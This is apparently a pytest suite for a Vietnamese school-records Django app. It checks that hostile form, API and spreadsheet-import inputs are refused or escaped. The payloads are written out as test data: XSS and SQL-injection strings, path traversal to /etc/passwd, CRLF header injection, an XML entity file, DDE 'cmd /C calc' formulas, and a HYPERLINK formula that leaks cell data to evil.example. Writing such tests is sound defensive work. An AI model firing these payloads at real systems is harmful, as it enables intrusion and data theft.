"""Hostile form and API inputs: every one gets a 4xx with a clear (Vietnamese) message or a
harmless 200, never a 5xx; nothing is written; whatever is stored is shown escaped.

Needs the demo province: the hostile inputs go to TH1's and TH2's forms and API as the demo's
th1.vanthu."""

from __future__ import annotations

import io
import json
import re
from typing import Any

import pytest
from django.conf import settings
from django.test import Client
from openpyxl import Workbook

from hoso.audit.models import AuditEntry
from hoso.org.importing.columns import SHEETS
from hoso.org.models import Staff, Student, Unit

pytestmark = pytest.mark.django_db

TOKEN_URL = "/api/v1/auth/token/"
XSS = '<script>alert("xss")</script><img src=x onerror=alert(1)>'
SQL = "' OR '1'='1'; DROP TABLE org_staff; --"


def _snapshot() -> tuple[int, int, int]:
    return Staff.objects.count(), Student.objects.count(), AuditEntry.objects.count()


def _vietnamese(response: Any) -> str:
    if response.get("Content-Type", "").startswith("application/json"):
        body = response.json()
        assert set(body) >= {"code", "message"}, body
        return str(body["message"])
    return response.content.decode("utf-8", "replace")


# (name, method, url, body, content_type, expected statuses)
RAW_CASES = [
    (
        "token: invalid UTF-8 JSON",
        TOKEN_URL,
        b'{"username": "\xff\xfe", "password": "x"}',
        "application/json",
        {400},
    ),
    (
        "token: huge JSON body",
        TOKEN_URL,
        json.dumps({"username": "a", "password": "b" * (3 * 1024 * 1024)}).encode(),
        "application/json",
        {400, 413},
    ),
    (
        "token: deeply nested JSON",
        TOKEN_URL,
        b"[" * 100_000 + b"]" * 100_000,
        "application/json",
        {400},
    ),
    ("token: JSON array instead of object", TOKEN_URL, b"[1, 2, 3]", "application/json", {400}),
    ("token: truncated JSON", TOKEN_URL, b'{"username": "a", "pass', "application/json", {400}),
    ("token: plain text", TOKEN_URL, b"username=a", "text/plain", {415}),
    (
        "token: NUL in username",
        TOKEN_URL,
        json.dumps({"username": "ad\u0000min", "password": "x"}).encode(),
        "application/json",
        {400},
    ),
    (
        "token: overlong username",
        TOKEN_URL,
        json.dumps({"username": "a" * 100_000, "password": "x"}).encode(),
        "application/json",
        {400},
    ),
    (
        "token: SQL-like username",
        TOKEN_URL,
        json.dumps({"username": SQL, "password": SQL}).encode(),
        "application/json",
        {401},
    ),
    (
        "token: numbers and nulls",
        TOKEN_URL,
        json.dumps({"username": None, "password": 12345}).encode(),
        "application/json",
        {400},
    ),
    (
        "import: malformed multipart (no boundary)",
        "/api/v1/imports/staff/",
        b'--x\r\nContent-Disposition: form-data; name="file"\r\n\r\nabc',
        "multipart/form-data",
        {400},
    ),
    (
        "import: truncated multipart",
        "/api/v1/imports/staff/",
        b'--B\r\nContent-Disposition: form-data; name="file"; filename="a.xlsx"\r\n\r\nPK\x03',
        "multipart/form-data; boundary=B",
        {400},
    ),
    (
        "login: invalid UTF-8 form",
        settings.LOGIN_URL,
        b"login=\xff\xfe&password=\xc3\x28",
        "application/x-www-form-urlencoded",
        {200, 400},
    ),
    (
        "login: oversized form body",
        settings.LOGIN_URL,
        b"login=a&password=" + b"x" * (3 * 1024 * 1024),
        "application/x-www-form-urlencoded",
        {400, 413},
    ),
    (
        "login: too many fields",
        settings.LOGIN_URL,
        "&".join(f"f{i}=1" for i in range(5000)).encode(),
        "application/x-www-form-urlencoded",
        {400},
    ),
]


@pytest.mark.parametrize(
    ("name", "url", "body", "content_type", "expected"), RAW_CASES, ids=[c[0] for c in RAW_CASES]
)
def test_hostile_request_bodies(name, url, body, content_type, expected, api_for):
    client = api_for("th1.vanthu") if "import" in name else Client()
    before = _snapshot()

    response = client.generic("POST", url, body, content_type=content_type)

    assert response.status_code in expected, (name, response.status_code, response.content[:300])
    assert _vietnamese(response)
    assert _snapshot()[:2] == before[:2]


GET_CASES = [
    ("staff search: SQL-like", "/nhan-su/?q=" + SQL, {200}),
    ("staff search: NUL byte", "/nhan-su/?q=a%00b", {400}),
    ("api people: NUL byte in search", "/api/v1/people/?q=a%00b", {400}),
    ("staff search: overlong", "/nhan-su/?q=" + "x" * 50_000, {200}),
    ("students: class id not a number", "/hoc-sinh/?lop=abc", {404}),
    ("students: class id SQL-like", "/hoc-sinh/?lop=1%20OR%201=1", {404}),
    ("students: class id beyond 64 bits", "/hoc-sinh/?lop=99999999999999999999999", {404}),
    ("api person: id beyond 64 bits", "/api/v1/people/99999999999999999999999/", {404}),
    ("api people: page not a number", "/api/v1/people/?page=abc", {404}),
    ("api people: negative page", "/api/v1/people/?page=-1", {404}),
    ("api people: search with control characters", "/api/v1/people/?q=%1b%5b31m%e2%80%ae", {200}),
    ("import template: path traversal", "/nhap-du-lieu/mau/..%2F..%2Fetc%2Fpasswd.xlsx", {404}),
    (
        "import template: CRLF header injection",
        "/nhap-du-lieu/mau/a%0d%0aSet-Cookie:x=1.xlsx",
        {404},
    ),
    ("audit log: script in filter", "/nhat-ky/?action=" + XSS, {200}),
]


@pytest.mark.parametrize(("name", "url", "expected"), GET_CASES, ids=[c[0] for c in GET_CASES])
def test_hostile_query_strings(name, url, expected, client_for, api_for):
    client = api_for("admin") if url.startswith("/api/") else client_for("admin")

    response = client.get(url)

    assert response.status_code in expected, (name, response.status_code)
    assert "Set-Cookie: x" not in str(response.headers)
    if response.get("Content-Type", "").startswith("text/html"):
        assert "<script>alert" not in response.content.decode()


def _staff_xlsx(rows: list[list[str]]) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.append([c.header for c in SHEETS["staff"]])
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_script_names_are_stored_as_text_and_shown_escaped(client_for):
    # Given a school imports staff whose names are markup
    th1 = Unit.objects.get(code="TH1")
    names = [XSS, "Nguyễn <b>Văn</b> A\u202e", SQL]
    rows = [[f"CBX{i:04d}", name, "Nữ", "", "", "", "", ""] for i, name in enumerate(names)]
    client = client_for("th1.vanthu")

    response = client.post(
        "/nhap-du-lieu/",
        {
            "kind": "staff",
            "school": th1.pk,
            "file": io.BytesIO(_staff_xlsx(rows)),
        },
    )

    # Then they are stored as text — markup kept verbatim, the bidi override removed (issue 13
    # item 6) — and every page shows them as text
    assert response.status_code == 200, re.findall(
        r"<(?:p|td)[^>]*>[^<]*", response.content.decode()
    )
    stored = set(Staff.objects.filter(code__startswith="CBX").values_list("full_name", flat=True))
    assert stored == {XSS, "Nguyễn <b>Văn</b> A", SQL}
    page = client.get("/nhan-su/?q=CBX").content.decode()
    assert "<script>alert" not in page and "&lt;script&gt;alert" in page
    assert "<b>Văn</b>" not in page
    api = client.get("/api/v1/people/?q=CBX").json()
    assert XSS in {p["full_name"] for p in api["results"]}  # JSON carries data, not markup


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Bấm")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
    ],
)
def test_formula_values_in_an_import_are_refused_and_nothing_written(formula, client_for):
    th1 = Unit.objects.get(code="TH1")
    client = client_for("th1.vanthu")
    before = _snapshot()

    response = client.post(
        "/nhap-du-lieu/",
        {
            "kind": "staff",
            "school": th1.pk,
            "file": io.BytesIO(_staff_xlsx([["CBZ0001", formula, "Nữ", "", "", "", "", ""]])),
        },
    )

    assert response.status_code == 400
    assert "ký tự công thức" in response.content.decode()
    assert _snapshot()[:2] == before[:2]


def test_a_file_that_is_not_excel_is_refused_in_vietnamese_and_nothing_written(client_for):
    th1 = Unit.objects.get(code="TH1")
    client = client_for("th1.vanthu")
    before = _snapshot()

    response = client.post(
        "/nhap-du-lieu/",
        {
            "kind": "staff",
            "school": th1.pk,
            "file": io.BytesIO(b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>"),
        },
    )

    assert response.status_code == 400
    assert "Tệp không phải Excel" in response.content.decode()
    assert _snapshot() == before


def test_an_unknown_school_in_the_import_form_is_refused(client_for):
    client = client_for("th1.vanthu")
    before = _snapshot()
    response = client.post(
        "/nhap-du-lieu/",
        {
            "kind": "staff",
            "school": Unit.objects.get(code="TH2").pk,
            "file": io.BytesIO(_staff_xlsx([["CBY0001", "Người lạ", "Nam", "", "", "", "", ""]])),
        },
    )
    assert response.status_code == 400
    assert "Hãy chọn trường" in response.content.decode()
    assert _snapshot() == before
